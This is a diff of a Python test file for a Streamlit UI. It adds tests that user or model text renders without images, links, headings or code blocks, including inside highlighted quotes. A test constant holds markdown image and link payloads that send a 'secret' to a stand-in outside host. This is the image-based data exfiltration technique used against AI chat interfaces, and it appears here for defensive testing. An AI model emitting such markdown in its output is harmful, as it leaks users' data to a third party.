@@ -12,7 +12,7 @@ from dspy.utils import DummyLM
 from markdown_it import MarkdownIt
 from streamlit.testing.v1 import AppTest
 
-from lmspace_ui.text import plain
+from lmspace_ui.text import highlighted, plain
 from tests.conftest import APP
 
 EXFILTRATE = "![](http://203.0.113.9/x.png?d=secret) [click](http://203.0.113.9/) <http://203.0.113.9/a>"
@@ -61,3 +61,19 @@ def test_no_page_renders_an_image_or_link_from_user_or_model_text(hostile_space,
     for text in strings:
         html = rendered(text)
         assert "<img" not in html and "<a " not in html, text
+
+
+def test_indented_lines_stay_text_with_their_indentation_not_a_code_block():
+    html = rendered(plain("def total(items):\n\n    return sum(i.price for i in items)"))
+    assert "<pre>" not in html and "\\(" not in html and "\u00a0" * 4 + "return sum(i.price" in html
+
+
+def test_a_highlighted_quote_is_escaped_inside_and_around_its_highlight():
+    passage = f"# Rules\n\nKeep invoices [seven] years.\nThen {EXFILTRATE}\n\nDone."
+    start = passage.index("Keep")
+    marked = highlighted(passage, (start, passage.index("\n\nDone")))
+    assert marked.count(":orange-background[") == 2  # one per line of the quote
+    html = rendered(marked)
+    assert "<img" not in html and "<a " not in html and "<h1>" not in html
+    assert ":orange-background[Keep invoices [seven] years.]" in html
+    assert highlighted(passage, None) == plain(passage)
